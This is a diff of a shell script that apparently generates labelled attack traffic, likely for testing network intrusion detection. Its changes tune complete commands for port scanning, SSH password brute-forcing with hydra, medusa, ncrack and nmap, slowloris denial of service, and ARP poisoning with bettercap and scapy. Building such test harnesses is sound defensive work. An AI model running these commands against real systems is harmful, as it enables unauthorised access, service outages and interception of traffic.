@@ -38,7 +38,7 @@ scan_slow() {
     at 4 port_scan evil1 "$Q" scan.py 215 "python3 \$T/scan.py $Q 1-1000 rate=$(pick 1 0.7 1.3)" "about 1 connect/s, closed ports"
     at 5 port_scan evil2 "$F" scan.py 215 "python3 \$T/scan.py $F 1-1000 rate=$(pick 1.2 1 0.8) wait=2" "about 1 connect/s, filtered"
     at 6 port_scan evil3 "198.18.9.0/24" scan.py 215 "python3 \$T/scan.py 198.18.9.0/24 $(pick 22 445 3389) rate=$(pick 1 2 1.5)" "one port, a host a second"
-    at 7 port_scan evil4 "$W" hping3 215 "hping3 -q -S -p ++20 -i u$(pick 1000000 700000 1400000) $W" "about 1 SYN/s"
+    at 7 port_scan evil4 "$W" hping3 215 "hping3 -q -S -p ++20 -i $(pick 1 u700000 2) $W" "about 1 SYN/s, the next port each time"
     at 150 port_scan pc1 "$S,$dead" scan.py 60 "python3 \$T/scan.py $S,$dead 22,80,443,445,3389,5900,8080,8443,1433,3306 rate=1" "an ordinary client, dead hosts mostly"
 }
 
@@ -46,7 +46,7 @@ guess_tools() {
     at 4 ssh_brute evil1 "$S" hydra 60 "hydra -I -l alice -P $RUN/words -t $(pick 4 2 8) ssh://$S" ""
     at 6 ssh_brute evil2 "$S" medusa 75 "medusa -h $S -n $(pick 2222 22 22) -u root -P $RUN/words -M ssh -t $(pick 2 1 3)" ""
     at 8 ssh_brute evil3 "$A" patator 80 "patator ssh_login host=$A port=$APORT user=alice password=FILE0 0=$RUN/words -t $(pick 2 3 1) -x ignore:mesg=Authentication" ""
-    at 10 ssh_brute evil4 "$A" ncrack 80 "ncrack -p ssh:$APORT --user alice -P $RUN/words -T3 $A" ""
+    at 10 ssh_brute evil4 "$S" ncrack 80 "ncrack -p ssh:22 --user alice -P $RUN/words -g CL=$(pick 2 1 4) $S" ""
     at 110 ssh_brute evil1 "$S" nmap 75 "nmap -n -Pn -p 22 --script ssh-brute --script-args userdb=$RUN/users,passdb=$RUN/words,brute.threads=3 $S" "script ssh-brute"
     at 115 ssh_brute evil2 "$A" hydra 80 "hydra -I -L $RUN/users -p Summer2026 -s $APORT -t 2 -c 2 ssh://$A" "one password, many users, 2 s apart"
 }
@@ -71,7 +71,7 @@ slow_headers() {
     at 4 slowloris evil1 "$W" slow_http.py 200 "python3 \$T/slow_http.py $W 80 count=$(pick 50 80 60) gap=$(pick 10 15 7)" "headers"
     at 6 slowloris evil2 "$W" slowhttptest 90 "slowhttptest -H -c $(pick 70 150 100) -r 20 -i $(pick 9 5 12) -l 85 -x 12 -p 4 -u http://$W/" "headers"
     at 20 slowloris evil3 "${W6:-$W}" slow_http.py 180 "python3 \$T/slow_http.py ${W6:-$W} 443 tls=1 count=$(pick 55 100 70) gap=$(pick 12 8 20)" "headers inside TLS"
-    at 110 slowloris evil4 "$A" nmap 85 "nmap -n -Pn -p $APP --script +http-slowloris --script-args http-slowloris.runforever=true --max-parallelism $(pick 60 100 80) $A" "script http-slowloris, python's server"
+    at 110 slowloris evil4 "$A" slowhttptest 85 "slowhttptest -H -c $(pick 60 100 80) -r 5 -i $(pick 12 8 10) -l 80 -x 10 -p 4 -u http://$A:$APP/" "headers, python's server"
 }
 
 slow_bodies() {
@@ -107,7 +107,7 @@ exfiltration() {
 arp_tools() {
     at 4 arp_spoof evil1 "${LANS[0]}" arpspoof 60 "arpspoof -i eth0 -t ${LANS[0]} $GATEWAY" "one way, 02 MAC ${MAC[evil1]}"
     at 80 arp_spoof evil2 "${LANS[1]}" ettercap 60 "ettercap -T -q -i eth0 -M arp:remote /${LANS[1]}// /$GATEWAY// </dev/zero" "both ways and relay"
-    at 150 arp_spoof evil3 "${LANS[2]}" bettercap 50 "sleep 48 | bettercap -iface eth0 -no-colors -no-history -gateway-override $GATEWAY -eval 'set arp.spoof.targets ${LANS[2]}; set arp.spoof.fullduplex true; arp.spoof on'" "both ways; gateway $GATEWAY"
+    at 150 arp_spoof evil3 "${LANS[2]}" bettercap 50 "ping -q -c1 ${LANS[2]}; ping -q -c1 $GATEWAY; sleep 46 | bettercap -iface eth0 -no-colors -no-history -gateway-override $GATEWAY -eval 'set arp.spoof.targets ${LANS[2]}; set arp.spoof.fullduplex true; arp.spoof on'" "both ways; gateway $GATEWAY"
     at 60 arp_spoof evil4 "${LANS[3]}" scapy 140 "scapy_poison() { python3 -c \"from scapy.all import *; arpcachepoison('${LANS[3]}', '$GATEWAY', interval=$(pick 5 10 3))\"; }; scapy_poison" "arpcachepoison of ${LANS[3]} for $GATEWAY"
 }
 
